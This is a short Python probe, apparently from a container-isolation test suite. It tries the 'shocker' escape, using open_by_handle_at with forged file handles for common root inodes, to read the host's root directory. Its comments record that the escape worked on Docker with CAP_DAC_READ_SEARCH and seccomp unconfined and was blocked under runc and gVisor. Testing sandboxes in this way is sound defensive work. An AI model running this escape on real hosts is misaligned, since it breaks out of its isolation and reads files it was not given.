# Tries: open files of the host's disk by handles, which know no mount
# Idea: shocker (CDK cap-dac-read-search); CAP_DAC_READ_SEARCH
# Docker: breached with --cap-add DAC_READ_SEARCH --security-opt seccomp=unconfined
# runc: held EPERM
# gVisor: held
mount = os.open("/etc/hostname", os.O_RDONLY)
# The root folder of most file systems: inode 2 of ext4, 128 of xfs, 256 of btrfs.
for inode in (2, 128, 256):
    handle = struct.pack("<IiII", 8, 1, inode, 0)
    try: fd = call(304, 265, mount, ctypes.c_char_p(handle), os.O_RDONLY)
    except OSError as e: error = e; continue
    breached(f"inode {inode}: {os.listdir(fd)[:4]}")
raise error
